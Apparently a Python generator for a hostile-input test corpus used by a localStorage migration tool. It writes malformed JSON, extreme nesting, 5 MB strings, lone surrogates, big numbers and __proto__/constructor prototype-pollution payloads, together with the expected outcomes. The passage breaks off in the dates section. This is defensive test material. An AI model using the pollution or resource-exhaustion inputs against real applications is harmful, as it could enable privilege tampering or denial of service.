#!/usr/bin/env python3
"""Writes tests/corpus/hostile.json: the hostile localStorage corpus of issue 7.

Run `python3 tests/corpus/make_hostile.py` after editing; the JSON file is what the tests read
(ferry-core/tests/hostile_corpus.rs and server/tests/api/hostile.rs), and it is kept in the
repository so a reviewer can read every case without running anything.

Each case gives the localStorage pairs (key, raw value), exactly as the legacy app left them,
and the expected outcome of every record, in the order the pipeline reports them:

- `valid` / `repaired` (with the repair codes) and the exact column values the record must be
  stored with. The column values are computed here by a small, independent model of
  specs/taskboard.json (`task_fields`, `env_fields`, ...), not copied from Ferry's output.
- `rejected`, with its codes and a substring of one reason: the record goes to the quarantine.
- `duplicate` (an identical copy, not shipped), or `one_of` a group where exactly one record is
  kept and the others are rejected as duplicates (ties broken by content hash).

Strings are Python strings, which can hold lone surrogates and NUL; the file is written with
`ensure_ascii`, so they appear as `\\ud800` / `\\u0000` escapes and the file stays valid UTF-8
JSON. Very large values are written as generators, `{"$gen": [part, ...]}` where a part is a
string or `{"repeat": s, "times": n}`, expanded by the tests.
"""

import datetime as dt
import json
import os
import re

MIGRATED_AT = "$migrated_at"
DROP = object()  # a property left out of a record

cases = []


def gen(*parts):
    """A generated text: parts are strings or (s, n) repeats."""
    out = []
    for p in parts:
        out.append({"repeat": p[0], "times": p[1]} if isinstance(p, tuple) else p)
    return {"$gen": out}


def js(value):
    """JSON.stringify as modern engines write it (ES2019): lone surrogates as `\\udxxx` text."""
    text = json.dumps(value, ensure_ascii=False, separators=(",", ":"))
    return escape_lone_surrogates(text)


def js_raw(value):
    """JSON.stringify as old engines wrote it: lone surrogates left raw in the text."""
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


def units(s):
    """The UTF-16 code units of a Python string (which may hold surrogate code points)."""
    b = s.encode("utf-16-le", "surrogatepass")
    return [int.from_bytes(b[i : i + 2], "little") for i in range(0, len(b), 2)]


def lone_positions(u):
    out = []
    i = 0
    while i < len(u):
        c = u[i]
        if 0xD800 <= c <= 0xDBFF and i + 1 < len(u) and 0xDC00 <= u[i + 1] <= 0xDFFF:
            i += 2
            continue
        if 0xD800 <= c <= 0xDFFF:
            out.append(i)
        i += 1
    return out


def escape_lone_surrogates(text):
    u = units(text)
    lone = set(lone_positions(u))
    out = []
    for i, c in enumerate(u):
        if i in lone:
            out.extend(units("\\u%04x" % c))
        else:
            out.append(c)
    return bytes(b for c in out for b in c.to_bytes(2, "little")).decode("utf-16-le", "surrogatepass")


def needs_escape(s):
    """Whether the lossless rule escapes something in `s` (NUL, U+FFFF, a lone surrogate)."""
    u = units(s)
    return bool(lone_positions(u)) or 0 in u or 0xFFFF in u


def json_needs_escape(v):
    if isinstance(v, str):
        return needs_escape(v)
    if isinstance(v, list):
        return any(json_needs_escape(x) for x in v)
    if isinstance(v, dict):
        return any(needs_escape(k) or json_needs_escape(x) for k, x in v.items())
    return False


def chars(s):
    """Length in characters as the pipeline's length rule counts: code points, a lone
    surrogate counting as one."""
    u = units(s)
    n, i = 0, 0
    while i < len(u):
        if 0xD800 <= u[i] <= 0xDBFF and i + 1 < len(u) and 0xDC00 <= u[i + 1] <= 0xDFFF:
            i += 2
        else:
            i += 1
        n += 1
    return n


def canonical_utc(d):
    return "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ" % (d.year, d.month, d.day, d.hour, d.minute, d.second, d.microsecond // 1000)


def iso(text):
    """An ISO 8601 input as the canonical UTC form Ferry stores (fraction truncated to ms)."""
    text = re.sub(r"\.(\d{3})\d+", r".\1", text)
    d = dt.datetime.fromisoformat(text.replace("Z", "+00:00").replace("z", "+00:00"))
    if d.tzinfo is None:
        d = d.replace(tzinfo=dt.timezone.utc)
    utc = d - d.utcoffset()  # naive arithmetic: works near year 1 and 9999 too
    return canonical_utc(utc.replace(tzinfo=None))


def epoch_ms(ms):
    d = dt.datetime(1970, 1, 1) + dt.timedelta(milliseconds=ms)
    return canonical_utc(d)


def clean(d):
    return {k: v for k, v in d.items() if v is not DROP}


# ---------------------------------------------------------------------------------------------
# The independent model of specs/taskboard.json, for records that must be accepted.
# ---------------------------------------------------------------------------------------------

STATUS_LEGACY = {"todo": "pending", "in-progress": "in_progress", "done": "completed"}


def task(**kw):
    t = {
        "id": "t-1",
        "title": "Buy milk",
        "status": "pending",
        "createdAt": "2024-01-01T00:00:00.000Z",
        "updatedAt": "2024-01-02T00:00:00.000Z",
    }
    t.update(kw)
    return clean(t)


def task_fields(t):
    """Columns and repair codes of a task the spec accepts."""
    codes = set()
    status = t["status"]
    if status in STATUS_LEGACY:
        status = STATUS_LEGACY[status]
        codes.add("legacy_enum")
    if "updatedAt" not in t or t["updatedAt"] is None:
        codes.add("default_from")
    for f in ("title", "description"):
        if isinstance(t.get(f), str) and needs_escape(t[f]):
            codes.add("escaped")
    if any(needs_escape(x) for x in t.get("tags") or []):
        codes.add("escaped")
    fields = {
        "title": t["title"],
        "status": status,
        "description": t.get("description"),
        "priority": t.get("priority"),
        "tags": t.get("tags"),
        "due_date": iso(t["dueDate"]) if t.get("dueDate") is not None else None,
        "created_at": iso(t["createdAt"]),
        "updated_at": iso(t["updatedAt"] if t.get("updatedAt") is not None else t["createdAt"]),
    }
    return fields, codes


TOKEN = "ghp_TESTtoken0123456789abcdefSECRET"


def env(**kw):
    e = {
        "id": "prod",
        "name": "Production",
        "description": "Live site",
        "config": {"region": "eu-west-1", "githubToken": TOKEN},
        "isActive": True,
        "createdAt": "2024-01-01T00:00:00.000Z",
        "updatedAt": "2024-01-02T00:00:00.000Z",
    }
    e.update(kw)
    return clean(e)


def stamp(v):
    if v is None:
        return MIGRATED_AT
    if isinstance(v, str):
        return iso(v)
    return epoch_ms(v)


def env_fields(e):
    codes = set()
    for f in ("name", "description"):
        if isinstance(e.get(f), str) and needs_escape(e[f]):
            codes.add("escaped")
    if json_needs_escape(e["config"]):
        codes.add("escaped")
    fields = {
        "name": e["name"],
        "description": e.get("description"),
        "config": e["config"],
        "is_active": e.get("isActive", True) if e.get("isActive") is not None else True,
        "created_at": stamp(e.get("createdAt")),
        "updated_at": stamp(e.get("updatedAt")),
        "schema_version": 2,
    }
    return fields, codes


def pref_fields(p):
    codes = set()
    theme = p.get("theme")
    if theme is None:
        theme = "system"
    elif theme == "auto":
        theme = "system"
        codes.add("legacy_enum")
    lang = p.get("language")
    if lang is None:
        lang = "en"
    if json_needs_escape(p):
        codes.add("escaped")
    return {"theme": theme, "language": lang, "preferences": p, "updated_at": MIGRATED_AT}, codes


def form_fields(suffix, v):
    codes = set()
    if needs_escape(suffix):
        codes.add("escaped")
    if json_needs_escape(v):
        codes.add("escaped")
    saved = v.get("savedAt") if isinstance(v, dict) else None
    return {
        "form_name": suffix,
        "data": v,
        "updated_at": epoch_ms(saved) if saved is not None else MIGRATED_AT,
    }, codes


def custom_fields(key, v, text=False):
    codes = set()
    if needs_escape(key):
        codes.add("escaped")
    if json_needs_escape(v):
        codes.add("escaped")
    if text:
        codes.add("not_json")
    return {"key": key, "value": v, "updated_at": MIGRATED_AT}, codes


# ---------------------------------------------------------------------------------------------
# Expectations.
# ---------------------------------------------------------------------------------------------


def accepted(key, at, fields_codes, legacy_id=None):
    fields, codes = fields_codes
    e = {"key": key, "at": at, "outcome": "repaired" if codes else "valid", "fields": fields}
    if codes:
        e["codes"] = sorted(codes)
    if legacy_id is not None:
        e["legacy_id"] = legacy_id
    return e


def rejected(key, at, codes, reason):
    if isinstance(codes, str):
        codes = [codes]
    return {"key": key, "at": at, "outcome": "rejected", "codes": sorted(set(codes)), "reason": reason}


def duplicate(key, at, of):
    return {"key": key, "at": at, "outcome": "duplicate", "of": of}


def one_of(key, at, group):
    return {"key": key, "at": at, "outcome": "one_of", "group": group}


def t_ok(t, at, key="tasks"):
    return accepted(key, at, task_fields(t), legacy_id=str(t["id"]) if not isinstance(t["id"], str) else t["id"])


def e_ok(e, at):
    return accepted("environments", at, env_fields(e), legacy_id=e["id"] if isinstance(e["id"], str) else str(e["id"]))


def p_ok(p):
    return accepted("userPreferences", None, pref_fields(p))


def f_ok(suffix, v):
    return accepted("formData:" + suffix, None, form_fields(suffix, v), legacy_id=suffix)


def c_ok(suffix, v, text=False):
    return accepted("taskboard:" + suffix, None, custom_fields("taskboard:" + suffix, v, text))


def case(name, category, storage, expect, unknown=(), note=None, secrets=()):
    c = {"name": name, "category": category, "storage": [list(p) for p in storage], "expect": expect}
    if unknown:
        c["unknown"] = list(unknown)
    if secrets:
        c["secrets"] = list(secrets)
    if note:
        c["note"] = note
    assert not any(c2["name"] == name for c2 in cases), name
    cases.append(c)


NOT_JSON = "is not valid JSON"

# ---------------------------------------------------------------------------------------------
# 1. Invalid JSON, in every kind.
# ---------------------------------------------------------------------------------------------

INVALID = [
    ("truncated-array", '[{"id":"t-1","title":"Buy'),
    ("trailing-comma", '[{"id":"t-1"},]'),
    ("single-quotes", "[{'id':'t-1'}]"),
    ("nan", '[{"id":"t-1","n":NaN}]'),
    ("infinity", '[{"id":"t-1","n":Infinity}]'),
    ("undefined", "undefined"),
    ("object-object", "[object Object]"),
    ("empty-string", ""),
    ("whitespace-only", " \n\t "),
    ("bom-prefix", "\ufeff[]"),
    ("line-comment", "// tasks\n[]"),
    ("trailing-garbage", "[]x"),
    ("two-values", "[][]"),
    ("raw-newline-in-string", '[{"id":"t-1","title":"a\nb"}]'),
    ("unescaped-quote", '[{"id":"t-1","title":"say "hi""}]'),
    ("hex-number", '[{"id":0x1F}]'),
    ("leading-zero", '[{"id":01}]'),
    ("plus-sign", '[{"id":+1}]'),
    ("bare-fraction", '[{"id":.5}]'),
    ("bad-escape", '[{"id":"\\x41"}]'),
    ("short-unicode-escape", '[{"id":"\\u12"}]'),
    ("non-hex-unicode-escape", '[{"id":"\\uZZZZ"}]'),
    ("number-overflow-1e400", '[{"id":"t-1","title":"x","n":1e400}]'),
    ("unclosed-string", '"abc'),
    ("lone-closing-bracket", "]"),
    ("python-literals", "[None, True]"),
]
for name, value in INVALID:
    case(
        f"invalid_json/tasks/{name}",
        "invalid_json",
        [("tasks", value)],
        [rejected("tasks", None, "not_json", NOT_JSON)],
    )
for name, value in INVALID[:8]:
    case(
        f"invalid_json/environments/{name}",
        "invalid_json",
        [("environments", value.replace('"t-1"', '"prod","config":{"githubToken":"%s"}' % TOKEN))],
        [rejected("environments", None, "not_json", "[not shown: this kind holds secrets]")],
        secrets=[TOKEN],
    )
for name, value in [("truncated", '{"theme":"dark"'), ("single-quotes", "{'theme':'dark'}"), ("object-object", "[object Object]"), ("empty", ""), ("nan", '{"theme":NaN}')]:
    case(f"invalid_json/preferences/{name}", "invalid_json", [("userPreferences", value)], [rejected("userPreferences", None, "not_json", NOT_JSON)])
for name, value in [("truncated", '{"email":"a@b.c"'), ("object-object", "[object Object]"), ("empty", ""), ("undefined", "undefined"), ("trailing-comma", '{"a":1,}')]:
    case(f"invalid_json/form_drafts/{name}", "invalid_json", [("formData:signup", value)], [rejected("formData:signup", None, "not_json", NOT_JSON)])
# A free-form custom key keeps text that is not JSON as a JSON string, unchanged.
for name, value in [("truncated", '{"a":'), ("object-object", "[object Object]"), ("empty", ""), ("undefined", "undefined"), ("plain-word", "board"), ("nan", "NaN")]:
    case(f"invalid_json/custom/{name}", "invalid_json", [("taskboard:view", value)], [c_ok("view", value, text=True)])

# ---------------------------------------------------------------------------------------------
# 2. Wrong types.
# ---------------------------------------------------------------------------------------------

for name, value, what in [("object", "{}", "an object"), ("null", "null", "null"), ("string", '"tasks"', "a string"), ("number", "42", "a number"), ("boolean", "true", "a boolean")]:
    case(
        f"wrong_type/tasks/container-{name}",
        "wrong_type",
        [("tasks", value)],
        [rejected("tasks", None, "shape", f"should hold a JSON array of records, but holds {what}")],
    )
    case(
        f"wrong_type/environments/container-{name}",
        "wrong_type",
        [("environments", value)],
        [rejected("environments", None, "shape", f"should hold a JSON array of records, but holds {what}")],
    )
for name, value, what in [("null", "null", "null"), ("number", "1", "a number"), ("string", '"t-1"', "a string"), ("array", "[]", "an array")]:
    case(
        f"wrong_type/tasks/element-{name}",
        "wrong_type",
        [("tasks", "[" + value + "," + js(task()) + "]")],
        [rejected("tasks", 0, ["id", "shape"], f"should be a JSON object, but is {what}"), t_ok(task(), 1)],
    )
for name, value, what in [("array", "[]", "an array"), ("string", '"dark"', "a string"), ("number", "5", "a number"), ("null", "null", "null")]:
    case(f"wrong_type/preferences/{name}", "wrong_type", [("userPreferences", value)], [rejected("userPreferences", None, "shape", f"should be a JSON object, but is {what}")])
    case(f"wrong_type/form_drafts/{name}", "wrong_type", [("formData:signup", value)], [rejected("formData:signup", None, "shape", f"should be a JSON object, but is {what}")])
TASK_TYPES = [
    ("title-number", {"title": 5}, "type", "field `title` should be a string, but is a number"),
    ("title-boolean", {"title": True}, "type", "field `title` should be a string, but is a boolean"),
    ("title-object", {"title": {"text": "x"}}, "type", "field `title` should be a string, but is an object"),
    ("title-array", {"title": ["x"]}, "type", "field `title` should be a string, but is an array"),
    ("title-null", {"title": None}, "missing", "required field `title` is missing"),
    ("title-missing", {"title": DROP}, "missing", "required field `title` is missing"),
    ("status-number", {"status": 1}, "type", "field `status` should be a string, but is a number"),
    ("status-unknown", {"status": "DONE"}, "enum", "field `status` is \"DONE\", which is not one of"),
    ("priority-unknown", {"priority": "asap"}, "enum", "field `priority` is \"asap\", which is not one of"),
    ("tags-string", {"tags": "a,b"}, "type", "field `tags` should be an array of strings, but is a string"),
    ("tags-number-item", {"tags": ["a", 7]}, "type", "field `tags[1]` should be a string, but is a number"),
    ("tags-null-item", {"tags": [None]}, "type", "field `tags[0]` should be a string, but is null"),
    ("tags-51-items", {"tags": ["t%d" % i for i in range(51)]}, "items", "field `tags` has 51 items, more than the 50 allowed"),
    ("description-number", {"description": 0}, "type", "field `description` should be a string, but is a number"),
    ("dueDate-epoch-number", {"dueDate": 1700000000000}, "timestamp", "field `dueDate` is not a valid timestamp (expected an ISO 8601 string)"),
    ("createdAt-object", {"createdAt": {}}, "timestamp", "field `createdAt` is not a valid timestamp"),
    ("id-object", {"id": {"v": 1}}, "id", "id field `id` should be a non-empty string or a safe integer"),
    ("id-array", {"id": ["t-1"]}, "id", "id field `id` should be a non-empty string or a safe integer"),
    ("id-boolean", {"id": True}, "id", "id field `id` should be a non-empty string or a safe integer"),
    ("id-null", {"id": None}, "id", "has no id (field `id`)"),
]
for name, change, code, reason in TASK_TYPES:
    case(f"wrong_type/tasks/{name}", "wrong_type", [("tasks", js([task(**change)]))], [rejected("tasks", 0, code, reason)])
ENV_TYPES = [
    ("isActive-string", {"isActive": "true"}, "type", "field `isActive` should be true or false, but is a string"),
    ("isActive-number", {"isActive": 1}, "type", "field `isActive` should be true or false, but is a number"),
    ("name-number", {"name": 0}, "type", "field `name` should be a string, but is a number"),
    ("config-null", {"config": None}, "missing", "required field `config` is missing"),
    ("createdAt-numeric-string", {"createdAt": "1700000000000"}, "timestamp", "field `createdAt` is not a valid timestamp"),
    ("updatedAt-boolean", {"updatedAt": True}, "timestamp", "field `updatedAt` is not a valid timestamp (expected an ISO 8601 string or epoch milliseconds)"),
]
for name, change, code, reason in ENV_TYPES:
    case(f"wrong_type/environments/{name}", "wrong_type", [("environments", js([env(**change)]))], [rejected("environments", 0, code, reason)], secrets=[TOKEN])
# A json column takes any JSON value: a config that is a string, an array or a number is kept as is.
for name, config in [("config-string", "eu-west-1"), ("config-array", ["eu", 1, None]), ("config-number", 3.5)]:
    e = env(config=config)
    case(f"wrong_type/environments/{name}", "wrong_type", [("environments", js([e]))], [e_ok(e, 0)])
for name, p, code, reason in [
    ("theme-number", {"theme": 1}, "type", "field `theme` should be a string, but is a number"),
    ("theme-uppercase", {"theme": "DARK"}, "enum", "field `theme` is \"DARK\", which is not one of"),
    ("language-word", {"language": "english"}, "regex", "field `language` does not match the pattern"),
    ("language-number", {"language": 44}, "type", "field `language` should be a string, but is a number"),
]:
    case(f"wrong_type/preferences/{name}", "wrong_type", [("userPreferences", js(p))], [rejected("userPreferences", None, code, reason)])
for name, v, reason in [
    ("savedAt-string", {"savedAt": "1700000000000"}, "field `savedAt` is not a valid timestamp (expected epoch milliseconds)"),
    ("savedAt-iso", {"savedAt": "2024-01-01T00:00:00Z"}, "field `savedAt` is not a valid timestamp (expected epoch milliseconds)"),
]:
    case(f"wrong_type/form_drafts/{name}", "wrong_type", [("formData:signup", js(v))], [rejected("formData:signup", None, "timestamp", reason)])
for name, v in [("number", 42), ("null", None), ("array", [1, "a", None]), ("boolean", False), ("nested-object", {"a": {"b": [1, {"c": None}]}})]:
    case(f"wrong_type/custom/{name}", "wrong_type", [("taskboard:anything", js(v))], [c_ok("anything", v)])

# ---------------------------------------------------------------------------------------------
# 3. Deep nesting (10,000 levels): an error, never a stack overflow.
# ---------------------------------------------------------------------------------------------

DEEP = 10_000
deep_arrays = gen(("[", DEEP), ("]", DEEP))
deep_objects = gen(('{"a":', DEEP), "1", ("}", DEEP))
REC = "recursion limit exceeded"
case("deep_nesting/tasks/10000-arrays", "deep_nesting", [("tasks", deep_arrays)], [rejected("tasks", None, "not_json", REC)])
case(
    "deep_nesting/tasks/10000-objects-in-description",
    "deep_nesting",
    [("tasks", gen('[{"id":"t-1","title":"x","status":"todo","createdAt":"2024-01-01T00:00:00Z","description":', ('{"a":', DEEP), "1", ("}", DEEP), "}]"))],
    [rejected("tasks", None, "not_json", REC)],
)
case("deep_nesting/tasks/10000-unclosed", "deep_nesting", [("tasks", gen(("[", DEEP)))], [rejected("tasks", None, "not_json", NOT_JSON)])
case(
    "deep_nesting/environments/10000-in-config",
    "deep_nesting",
    [("environments", gen('[{"id":"prod","name":"P","config":', ('{"a":', DEEP), "1", ("}", DEEP), "}]"))],
    [rejected("environments", None, "not_json", REC)],
)
case("deep_nesting/preferences/10000-objects", "deep_nesting", [("userPreferences", deep_objects)], [rejected("userPreferences", None, "not_json", REC)])
case("deep_nesting/form_drafts/10000-arrays", "deep_nesting", [("formData:deep", gen('{"a":', ("[", DEEP), ("]", DEEP), "}"))], [rejected("formData:deep", None, "not_json", REC)])
case(
    "deep_nesting/custom/10000-arrays-kept-as-text",
    "deep_nesting",
    [("taskboard:deep", deep_arrays)],
    [accepted("taskboard:deep", None, ({"key": "taskboard:deep", "value": deep_arrays, "updated_at": MIGRATED_AT}, {"not_json"}))],
)
nested = 1
for _ in range(100):
    nested = {"a": nested}
e = env(config={"deep": nested})
case("deep_nesting/environments/100-levels-accepted", "deep_nesting", [("environments", js([e]))], [e_ok(e, 0)])
nested_list = "x"
for _ in range(120):
    nested_list = [nested_list]
case("deep_nesting/custom/120-levels-accepted", "deep_nesting", [("taskboard:nested", js(nested_list))], [c_ok("nested", nested_list)])

# ---------------------------------------------------------------------------------------------
# 4. A single 5 MB string.
# ---------------------------------------------------------------------------------------------

FIVE_MB = 5 * 1024 * 1024
big = gen(("x", FIVE_MB))
case(
    "big_string/tasks/5mb-description-too-long",
    "big_string",
    [("tasks", gen('[{"id":"t-1","title":"x","status":"todo","createdAt":"2024-01-01T00:00:00Z","description":"', ("x", FIVE_MB), '"}]'))],
    [rejected("tasks", 0, "length", "field `description` has 5242880 characters, expected at most 20000 characters")],
)
case(
    "big_string/tasks/5mb-title-too-long",
    "big_string",
    [("tasks", gen('[{"id":"t-1","status":"todo","createdAt":"2024-01-01T00:00:00Z","title":"', ("x", FIVE_MB), '"}]'))],
    [rejected("tasks", 0, "length", "field `title` has 5242880 characters, expected 1 to 500 characters")],
)
case(
    "big_string/custom/5mb-raw-text",
    "big_string",
    [("taskboard:blob", big)],
    [accepted("taskboard:blob", None, ({"key": "taskboard:blob", "value": big, "updated_at": MIGRATED_AT}, {"not_json"}))],
)
case(
    "big_string/custom/5mb-json-string",
    "big_string",
    [("taskboard:blobjson", gen('"', ("x", FIVE_MB), '"'))],
    [accepted("taskboard:blobjson", None, ({"key": "taskboard:blobjson", "value": big, "updated_at": MIGRATED_AT}, set()))],
)
case(
    "big_string/form_drafts/5mb-field",
    "big_string",
    [("formData:essay", gen('{"body":"', ("x", FIVE_MB), '","savedAt":1700000000000}'))],
    [accepted("formData:essay", None, ({"form_name": "essay", "data": {"body": big, "savedAt": 1700000000000}, "updated_at": epoch_ms(1700000000000)}, set()), legacy_id="essay")],
)
case(
    "big_string/environments/5mb-config-value",
    "big_string",
    [("environments", gen('[{"id":"prod","name":"P","config":{"blob":"', ("x", FIVE_MB), '"},"createdAt":1700000000000,"updatedAt":1700000000000}]'))],
    [accepted("environments", 0, ({"name": "P", "description": None, "config": {"blob": big}, "is_active": True, "created_at": epoch_ms(1700000000000), "updated_at": epoch_ms(1700000000000), "schema_version": 2}, set()), legacy_id="prod")],
)

# ---------------------------------------------------------------------------------------------
# 5. Lone surrogates, NUL and U+FFFF: stored escaped, read back as the same code units.
# ---------------------------------------------------------------------------------------------

LOSSLESS = [
    ("lone-high", "\ud800"),
    ("lone-low", "\udc00"),
    ("lone-high-inside", "a\ud800b"),
    ("two-highs", "\udbff\udbff"),
    ("low-then-high", "\udfff\ud800"),
    ("high-at-end", "x\ud83d"),
    ("low-at-start", "\ude00y"),
    ("nul", "\u0000"),
    ("nul-inside", "a\u0000b"),
    ("two-nuls", "\u0000\u0000"),
    ("u-ffff", "\uffff"),
    ("u-ffff-lookalike-escape", "\uffffD800"),
    ("u-ffff-then-digits", "\uffff0000"),
    ("everything-mixed", "a\u0000\ud800\uffff\udc00b"),
    ("valid-pair-untouched", "ok \U0001F600 pair"),
    ("typed-backslash-u", "C:\\new\\ud800 typed"),
    ("typed-backslash-u0000", "\\u0000 typed"),
    ("control-chars", "\u0001\u001f\u007f\u0085"),
]


def lossless_case(name, s, encode, style):
    t = task(id="t-" + name, title=s, description=s, tags=[s])
    e = env(id="env-" + name, name=s, config={"note": s, s: s, "githubToken": "ghp_" + s})
    p = {"theme": "dark", "note": s}
    form_v = {"v": s, "savedAt": 1700000000000}
    storage = [
        ("tasks", encode([t])),
        ("environments", encode([e])),
        ("userPreferences", encode(p)),
        ("formData:" + s, encode(form_v)),
        ("taskboard:" + s, encode(s)),
    ]
    expect = [t_ok(t, 0), e_ok(e, 0), p_ok(p), f_ok(s, form_v), c_ok(s, s)]
    case(f"lossless/{style}/{name}", "lone_surrogate_nul", storage, expect, secrets=["ghp_" + s])


for name, s in LOSSLESS:
    lossless_case(name, s, js, "json-escapes")
    if lone_positions(units(s)):
        lossless_case(name, s, js_raw, "raw-units")
# Raw NUL inside a JSON string: JSON.parse refuses it (a raw control character), Ferry keeps it.
t = task(title="a\u0000b")
case(
    "lossless/raw-units/nul-in-json-string",
    "lone_surrogate_nul",
    [("tasks", js_raw([t]).replace("\\u0000", "\u0000"))],
    [t_ok(t, 0)],
    note="JSON.parse rejects a raw NUL inside a string; Ferry's parser sees the lossless escape and keeps the title exactly. Lenient, not lossy.",
)
# A surrogate pair written half as escape text, half as a raw unit: one character, like JSON.parse.
for name, middle in [("escaped-high-raw-low", "\\ud83d\ude00"), ("raw-high-escaped-low", "\ud83d\\ude00")]:
    t = task(title="\U0001F600")
    case(
        f"lossless/split-pair/{name}",
        "lone_surrogate_nul",
        [("tasks", js([task(title="@@")]).replace("@@", middle))],
        [t_ok(t, 0)],
    )
# Raw lone surrogate and NUL outside any string: not JSON.
case("lossless/raw-units/lone-surrogate-outside-string", "lone_surrogate_nul", [("tasks", "[\ud800]")], [rejected("tasks", None, "not_json", NOT_JSON)])
case("lossless/raw-units/nul-outside-string", "lone_surrogate_nul", [("tasks", "[\u0000]")], [rejected("tasks", None, "not_json", NOT_JSON)])
case("lossless/raw-units/custom-text-with-lone-surrogate", "lone_surrogate_nul", [("taskboard:scratch", "raw \udc00 text")], [c_ok("scratch", "raw \udc00 text", text=True)])
case("lossless/raw-units/custom-text-with-nul", "lone_surrogate_nul", [("taskboard:scratch", "a\u0000b")], [c_ok("scratch", "a\u0000b", text=True)])
# An enum value with a lone surrogate is not one of the values.
case(
    "lossless/json-escapes/status-with-lone-surrogate",
    "lone_surrogate_nul",
    [("tasks", js([task(status="todo\ud800")]))],
    [rejected("tasks", 0, "enum", "field `status` is \"todo\\u{FFFF}D800\", which is not one of")],
)
# A lone surrogate in an id: the legacy id keeps it, the target id is derived from it.
t = task(id="t-\ud800")
case("lossless/json-escapes/id-with-lone-surrogate", "lone_surrogate_nul", [("tasks", js([t]))], [t_ok(t, 0)])
t = task(id="t-\u0000")
case("lossless/json-escapes/id-with-nul", "lone_surrogate_nul", [("tasks", js([t]))], [t_ok(t, 0)])
# A title of one lone surrogate is one character (min length 1), 501 are too many.
t = task(title="\ud800" * 500)
case("lossless/json-escapes/title-500-lone-surrogates", "lone_surrogate_nul", [("tasks", js([t]))], [t_ok(t, 0)])
case(
    "lossless/json-escapes/title-501-lone-surrogates",
    "lone_surrogate_nul",
    [("tasks", js([task(title="\ud800" * 501)]))],
    [rejected("tasks", 0, "length", "field `title` has 501 characters, expected 1 to 500 characters")],
)

# ---------------------------------------------------------------------------------------------
# 6. __proto__ and constructor keys: plain data.
# ---------------------------------------------------------------------------------------------

PROTO = {"__proto__": {"isAdmin": True}, "constructor": {"prototype": {"polluted": 1}}, "toString": "x", "hasOwnProperty": 0}
t = task(id="__proto__")
case("proto/tasks/id-__proto__", "proto_keys", [("tasks", js([t]))], [t_ok(t, 0)])
t = task(id="constructor", title="constructor")
case("proto/tasks/id-and-title-constructor", "proto_keys", [("tasks", js([t]))], [t_ok(t, 0)])
t = dict(task(), **{"__proto__": {"status": "completed"}, "constructor": "x"})
case("proto/tasks/extra-proto-properties-ignored", "proto_keys", [("tasks", js([t]))], [t_ok(t, 0)])
e = env(config=dict(PROTO, githubToken=TOKEN))
case("proto/environments/config-with-proto-keys", "proto_keys", [("environments", js([e]))], [e_ok(e, 0)], secrets=[TOKEN])
e = env(id="__proto__")
case("proto/environments/id-__proto__", "proto_keys", [("environments", js([e]))], [e_ok(e, 0)], secrets=[TOKEN])
p = dict(PROTO, theme="light")
case("proto/preferences/proto-keys-kept", "proto_keys", [("userPreferences", js(p))], [p_ok(p)])
p = {"__proto__": {"theme": "dark"}}
case("proto/preferences/theme-inside-__proto__-not-read", "proto_keys", [("userPreferences", js(p))], [p_ok(p)])
for suffix in ("__proto__", "constructor", "prototype"):
    v = dict(PROTO)
    case(f"proto/form_drafts/key-{suffix}", "proto_keys", [("formData:" + suffix, js(v))], [f_ok(suffix, v)])
    case(f"proto/custom/key-{suffix}", "proto_keys", [("taskboard:" + suffix, js(v))], [c_ok(suffix, v)])
case(
    "proto/preferences/duplicate-__proto__-last-wins",
    "proto_keys",
    [("userPreferences", '{"__proto__":1,"theme":"dark","__proto__":2}')],
    [p_ok({"__proto__": 2, "theme": "dark"})],
)
case("proto/unknown-key/__proto__", "proto_keys", [("__proto__", "{}")], [], unknown=["__proto__"])

# ---------------------------------------------------------------------------------------------
# 7. Numbers beyond 2^53.
# ---------------------------------------------------------------------------------------------

MAX_SAFE = 2**53 - 1
for name, n in [("max-safe", MAX_SAFE), ("min-safe", -MAX_SAFE), ("zero", 0)]:
    t = task(id=n)
    case(f"big_numbers/tasks/id-{name}-accepted", "big_numbers", [("tasks", js([t]))], [t_ok(t, 0)])
for name, text in [("2^53", str(2**53)), ("2^53+1", str(2**53 + 1)), ("-2^53", str(-(2**53))), ("2^64", str(2**64)), ("1e300", "1e300"), ("fraction", "1.5"), ("exponent-1e3", "1e3"), ("one-point-zero", "1.0")]:
    case(
        f"big_numbers/tasks/id-{name}-rejected",
        "big_numbers",
        [("tasks", '[{"id":%s,"title":"x","status":"todo","createdAt":"2024-01-01T00:00:00Z"}]' % text)],
        [rejected("tasks", 0, "id", "id field `id` should be a non-empty string or a safe integer, but is")],
    )
for name, text in [("2^53+1", str(2**53 + 1)), ("2^63", str(2**63)), ("2^64-1", str(2**64 - 1)), ("-2^63", str(-(2**63)))]:
    # Integers that fit in 64 bits are kept digit for digit (JSON.parse would round them).
    value = '{"big":%s,"savedAt":1700000000000}' % text
    case(
        f"big_numbers/form_drafts/integer-{name}-kept-exactly",
        "big_numbers",
        [("formData:num", value)],
        [f_ok("num", {"big": int(text), "savedAt": 1700000000000})],
    )
for name, text, as_float in [("2^64", str(2**64), float(2**64)), ("30-digits", "123456789012345678901234567890", 1.2345678901234568e29), ("max-double", "1.7976931348623157e308", 1.7976931348623157e308), ("min-subnormal", "5e-324", 5e-324)]:
    case(
        f"big_numbers/custom/{name}-as-javascript-reads-it",
        "big_numbers",
        [("taskboard:num", text)],
        [c_ok("num", as_float)],
        note="Beyond 64 bits a number is kept as the double JSON.parse gives, as the app itself read it.",
    )
for name, ms, reason in [
    ("epoch-1e20", "1e20", "the date is outside years 0001–9999"),
    ("epoch-2^53+1", str(2**53 + 1), "the date is outside years 0001–9999"),
    ("epoch-js-max-date", "8640000000000000", "the date is outside years 0001–9999"),
    ("epoch-before-year-1", "-62135596800001", "the date is outside years 0001–9999"),
]:
    case(
        f"big_numbers/environments/createdAt-{name}",
        "big_numbers",
        [("environments", '[{"id":"prod","name":"P","config":{},"createdAt":%s}]' % ms)],
        [rejected("environments", 0, "timestamp", reason)],
    )
e = env(createdAt=253402300799999, updatedAt=-62135596800000)
case("big_numbers/environments/epoch-at-both-limits-accepted", "big_numbers", [("environments", js([e]))], [e_ok(e, 0)])
case(
    "big_numbers/form_drafts/savedAt-1e400",
    "big_numbers",
    [("formData:x", '{"savedAt":1e400}')],
    [rejected("formData:x", None, "not_json", "number out of range")],
)

# ---------------------------------------------------------------------------------------------
# 8. Dates out of range or impossible.
# ---------------------------------------------------------------------------------------------

OUT = "the date is outside years 0001–9999"
DATES_BAD = [
    ("year-0000", "0000-01-01T00:00:00Z", OUT),
    ("expanded-year-275760", "+275760-09-13T00:00:00.000Z", OUT),
